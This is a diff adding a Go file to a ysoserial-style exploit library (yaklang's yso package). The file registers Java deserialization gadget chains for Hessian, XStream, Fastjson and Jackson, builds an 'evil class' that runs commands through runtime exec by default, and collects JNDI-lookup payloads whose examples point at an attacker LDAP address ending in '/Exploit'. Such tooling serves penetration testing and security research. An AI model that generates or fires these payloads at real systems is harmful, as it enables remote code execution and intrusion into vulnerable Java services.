@@ -0,0 +1,167 @@
+package yso
+
+import (
+	"encoding/json"
+	"fmt"
+	"sort"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/javaclassparser"
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/yserx/hessian"
+)
+
+const (
+	FormatJavaSerialization = "java"
+	FormatHessian           = "hessian"
+	FormatXStream           = "xstream"
+	FormatFastjson          = "fastjson"
+	FormatJackson           = "jackson"
+)
+
+const (
+	HessianRomeSignedObjectGadgetName = "HessianRomeSignedObject"
+	XStreamCommonsBeanutilsGadgetName = "XStreamCommonsBeanutils"
+	XStreamEventHandlerGadgetName     = "XStreamEventHandler"
+	FastjsonTemplatesImplGadgetName   = "FastjsonTemplatesImpl"
+	FastjsonBCELGadgetName            = "FastjsonBCEL"
+	JacksonTemplatesImplGadgetName    = "JacksonTemplatesImpl"
+)
+
+const templatesImplClassName = "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"
+
+func init() {
+	registerFormatGadget(GetHessianRomeSignedObjectPayload, HessianRomeSignedObjectGadgetName, "Hessian Rome SignedObject", "rome ToStringBean calls SignedObject.getObject, which deserializes the native CommonsBeanutils192NOCC chain", FormatHessian)
+	registerFormatGadget(GetXStreamCommonsBeanutilsPayload, XStreamCommonsBeanutilsGadgetName, "XStream CommonsBeanutils", "PriorityQueue with BeanComparator loads TemplatesImpl bytecodes", FormatXStream)
+	registerFormatGadget(GetXStreamEventHandlerPayload, XStreamEventHandlerGadgetName, "XStream EventHandler", "sorted-set with dynamic proxy of java.beans.EventHandler, XStream <= 1.4.6", FormatXStream)
+	registerFormatGadget(GetFastjsonTemplatesImplPayload, FastjsonTemplatesImplGadgetName, "Fastjson TemplatesImpl", "requires Feature.SupportNonPublicField", FormatFastjson)
+	registerFormatGadget(GetFastjsonBCELPayload, FastjsonBCELGadgetName, "Fastjson BCEL", "tomcat-dbcp BasicDataSource loads the class by BCEL ClassLoader", FormatFastjson)
+	registerFormatGadget(GetJacksonTemplatesImplPayload, JacksonTemplatesImplGadgetName, "Jackson TemplatesImpl", "requires enableDefaultTyping", FormatJackson)
+}
+
+// AllFormatGadgets is the gadgets of hessian, xstream, fastjson and jackson, they are not java serialized objects
+// and not listed in AllGadgets
+var AllFormatGadgets = map[string]*GadgetInfo{}
+
+func registerFormatGadget(f any, name string, verbose string, help string, format string) {
+	info := newGadgetInfo(f, name, verbose, help)
+	info.Format = format
+	info.YakFun = fmt.Sprintf("Get%sPayload", name)
+	AllFormatGadgets[name] = info
+}
+
+// FormatPayload is the gadget payload of the serialization formats except java native serialization
+type FormatPayload struct {
+	Format  string
+	Hessian []hessian.HessianSerializable
+	Raw     []byte
+	verbose *GadgetInfo
+}
+
+func (p *FormatPayload) Verbose() *GadgetInfo {
+	return p.verbose
+}
+
+// Bytes return hessian 2.0 bytes for hessian payload, and the xml or json text for others
+func (p *FormatPayload) Bytes() []byte {
+	if p.Format == FormatHessian {
+		return hessian.MarshalHessian2(p.Hessian...)
+	}
+	return p.Raw
+}
+
+func (p *FormatPayload) Hessian1Bytes() ([]byte, error) {
+	if p.Format != FormatHessian {
+		return nil, utils.Errorf("cannot convert %s payload to hessian 1.0", p.Format)
+	}
+	return hessian.MarshalHessian1(p.Hessian...), nil
+}
+
+func newHessianPayload(name string, objs ...hessian.HessianSerializable) *FormatPayload {
+	return &FormatPayload{Format: FormatHessian, Hessian: objs, verbose: getFormatGadgetInfo(name, FormatHessian)}
+}
+
+func newRawPayload(name string, format string, raw string) *FormatPayload {
+	return &FormatPayload{Format: format, Raw: []byte(raw), verbose: getFormatGadgetInfo(name, format)}
+}
+
+// getFormatGadgetInfo return the registered gadget info, the payloads which are not registered get a simple one
+func getFormatGadgetInfo(name string, format string) *GadgetInfo {
+	if info, ok := AllFormatGadgets[name]; ok {
+		return info
+	}
+	return &GadgetInfo{Name: name, NameVerbose: name, Format: format, YakFun: fmt.Sprintf("Get%sPayload", name)}
+}
+
+// generateFormatEvilClass generate the evil class like ConfigJavaObject, runtime exec class is used by default
+func generateFormatEvilClass(options ...GenClassOptionFun) (*javaclassparser.ClassObject, error) {
+	config := NewClassConfig(options...)
+	if config.ClassType == "" {
+		config.ClassType = RuntimeExecClass
+	}
+	return config.GenerateClassObject()
+}
+
+// ToHessian1Bytes convert the hessian payload to hessian 1.0 bytes
+// Example:
+// ```
+// payload, _ = yso.GetHessianRomeJNDIPayload("ldap://127.0.0.1:1389/Exploit")
+// raw, _ = yso.ToHessian1Bytes(payload)
+// ```
+func ToHessian1Bytes(i interface{}) ([]byte, error) {
+	switch ret := i.(type) {
+	case *FormatPayload:
+		return ret.Hessian1Bytes()
+	case []hessian.HessianSerializable:
+		return hessian.MarshalHessian1(ret...), nil
+	default:
+		return nil, utils.Errorf("cannot support %T to hessian 1.0 bytes", ret)
+	}
+}
+
+// GetAllFormatGadget get the gadgets of the specified format, such as hessian, xstream, fastjson, jackson
+// Example:
+// ```
+// for _, gadget := range yso.GetAllFormatGadget("fastjson") {
+// println(gadget.Name)
+// }
+// ```
+func GetAllFormatGadget(format string) []*GadgetInfo {
+	var ret []*GadgetInfo
+	for _, gadget := range AllFormatGadgets {
+		if gadget.Format == format {
+			ret = append(ret, gadget)
+		}
+	}
+	sort.Slice(ret, func(i, j int) bool {
+		return ret[i].Name < ret[j].Name
+	})
+	return ret
+}
+
+// GetAllJNDIPayload get all the payloads which trigger the jndi lookup of the address
+// Example:
+// ```
+// for _, payload := range yso.GetAllJNDIPayload("ldap://127.0.0.1:1389/Exploit") {
+// raw, _ = yso.ToBytes(payload)
+// }
+// ```
+func GetAllJNDIPayload(addr string) []*FormatPayload {
+	return []*FormatPayload{
+		GetHessianRomeJNDIPayload(addr),
+		GetHessianSpringPointcutAdvisorPayload(addr),
+		GetFastjsonJdbcRowSetImplPayload(addr),
+		GetFastjsonCacheBypassPayload(addr),
+		GetJacksonJdbcRowSetImplPayload(addr),
+	}
+}
+
+// jsonString quote the string as json string
+func jsonString(s string) string {
+	raw, _ := json.Marshal(s)
+	return string(raw)
+}
+
+func xmlEscape(s string) string {
+	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "'", "&apos;").Replace(s)
+}